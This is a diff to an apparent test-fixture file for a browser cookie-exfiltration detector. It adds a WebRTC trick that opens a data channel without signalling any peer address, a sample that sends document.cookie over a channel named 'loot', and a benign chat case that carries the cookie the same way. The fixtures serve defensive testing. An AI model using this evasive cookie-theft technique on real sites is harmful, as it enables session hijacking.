@@ -55,6 +55,28 @@ export const HARD_CODED_PEER = `const pc = new RTCPeerConnection();
   const sdp = answerer.localDescription.sdp.replace(/(a=setup:\\w+)/, '$1\\r\\na=candidate:1 1 udp 2122260223 203.0.113.7 3479 typ host');
   await pc.setRemoteDescription({ type: 'answer', sdp });`;
 
+/**
+ * `unsignalled(label, onOpen)`: a data channel from a connection in the page to another standing in for the
+ * peer, which never tells it an address: the answer's candidates are cut out and none are trickled. The
+ * channel opens on the peer's connectivity checks alone (a peer-reflexive candidate), so the sending side
+ * holds no address for where its data goes.
+ */
+export const UNSIGNALLED_CHANNEL = `const unsignalled = async (label, onOpen) => {
+    const out = new RTCPeerConnection();
+    const peer = new RTCPeerConnection();
+    const channel = out.createDataChannel(label);
+    channel.onopen = () => onOpen(channel);
+    await out.setLocalDescription(await out.createOffer());
+    await new Promise((resolve) => {
+      const gathered = () => out.iceGatheringState === 'complete' && resolve();
+      out.onicegatheringstatechange = gathered;
+      gathered();
+    });
+    await peer.setRemoteDescription(out.localDescription);
+    await peer.setLocalDescription(await peer.createAnswer());
+    await out.setRemoteDescription({ type: 'answer', sdp: peer.localDescription.sdp.replace(/a=(?:candidate|end-of-candidates).*\\r\\n/g, '') });
+  };`;
+
 /** `frame(name)`: a hidden, named frame showing a shop page of its own, resolved once it has loaded. */
 export const SHOP_FRAME = `const frame = (name) => {
     const f = document.createElement('iframe');
@@ -614,6 +636,18 @@ export const MAIN_WORLD_SCRIPTS = {
 })();`,
 
   /**
+   * Sends the cookie over a data channel to a peer that never signals an address (UNSIGNALLED_CHANNEL): no ICE
+   * server, no candidate in the answer, none trickled — the connection knows its peer only from its checks.
+   */
+  'webrtc-unsignalled-peer': `(async () => {
+  ${UNSIGNALLED_CHANNEL}
+  await unsignalled('loot', (channel) => {
+    channel.send('c=' + document.cookie);
+    window.__webrtcSent = true;
+  });
+})();`,
+
+  /**
    * The cookie in the URL of connections other than a WebSocket: an EventSource stream (a string URL, and
    * a URL object), and a WebTransport session where the browser has it (its connection fails: the attempt
    * is what Saq can see).
@@ -1037,7 +1071,8 @@ export const BENIGN = {
 })();`,
   /**
    * The shop's own support chat over WebRTC: a STUN server of its own, and a data channel that opens — to a
-   * connection in the page standing in for the operator — and carries a message with the session cookie.
+   * connection in the page standing in for the operator — and carries a message with the session cookie; and
+   * a direct line to the operator whose address is never signalled (UNSIGNALLED_CHANNEL), carrying it too.
    */
   'peer-chat': `(async () => {
   const chat = new RTCPeerConnection({ iceServers: [{ urls: 'stun:stun.kazcoins.nationalbank.kz:3478' }] });
@@ -1046,7 +1081,17 @@ export const BENIGN = {
   operator.onicecandidate = (e) => e.candidate && chat.addIceCandidate(e.candidate).catch(() => {});
   operator.ondatachannel = (e) => (e.channel.onmessage = () => e.channel.send('operator: hello'));
   const channel = chat.createDataChannel('support');
-  channel.onmessage = () => (window.__chatted = true);
+  let answered = false;
+  let direct = false;
+  const done = () => answered && direct && (window.__chatted = true);
+  channel.onmessage = () => ((answered = true), done());
+  // A second line to the operator with no server and no address signalled (its sends go to an unknown peer).
+  ${UNSIGNALLED_CHANNEL}
+  unsignalled('support-direct', (line) => {
+    line.send('session ' + document.cookie + ': direct line');
+    direct = true;
+    done();
+  });
   channel.onopen = () => channel.send('session ' + document.cookie + ': I cannot add a coin');
   await chat.setLocalDescription(await chat.createOffer());
   await operator.setRemoteDescription(chat.localDescription);
